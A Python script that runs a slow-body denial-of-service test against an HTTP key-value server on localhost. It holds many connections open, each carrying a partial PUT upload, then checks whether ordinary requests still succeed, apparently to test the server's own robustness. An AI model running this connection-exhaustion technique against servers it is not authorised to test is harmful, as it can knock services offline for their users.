import socket, sys, time, http.client, collections
host='127.0.0.1'; port=int(sys.argv[1]); n=int(sys.argv[2]); size=int(sys.argv[3]) if len(sys.argv)>3 else 4_000_000
conns=[]
body=b'x'*(size-10_000)
t0=time.time()
for i in range(n):
    try:
        s=socket.create_connection((host,port),timeout=5)
        s.sendall(b'PUT /v0/entity?id=slow%d HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n'%(i,size))
        s.sendall(body)
        conns.append(s)
    except Exception as e:
        print('conn',i,'failed:',e)
        try:
            s.settimeout(5); print('  it was answered:', s.recv(200).split(b'\r\n')[0])
        except Exception as e2: print('  no answer readable:', e2)
        break
print('held',len(conns),'partial bodies of',size-10000,'bytes in',round(time.time()-t0,1),'s')
for attempt in range(3):
    try:
        c=http.client.HTTPConnection(host,port,timeout=10)
        t=time.time(); c.request('PUT','/v0/entity?id=probe',body=b'v'*100); r=c.getresponse(); b=r.read()
        print('probe PUT',r.status,b[:200],round((time.time()-t)*1000,1),'ms')
        t=time.time(); c.request('GET','/v0/entity?id=probe'); r=c.getresponse(); b=r.read()
        print('probe GET',r.status,len(b),round((time.time()-t)*1000,1),'ms')
        c2=http.client.HTTPConnection(host,port,timeout=10)
        t=time.time(); c2.request('PUT','/v0/entity?id=probe1m',body=b'w'*1_000_000); r=c2.getresponse(); b=r.read()
        print('probe PUT 1 MB',r.status,b[:120],round((time.time()-t)*1000,1),'ms')
    except Exception as e:
        print('probe failed:',e)
    time.sleep(1)
alive=0; answered=collections.Counter()
for s in conns:
    try:
        s.settimeout(0.01); d=s.recv(100)
        if d: answered[d.split(b'\r\n')[0]]+=1
    except socket.timeout: alive+=1
    except Exception as e: pass
print('attacker connections still open',alive,'answered:',dict(answered))
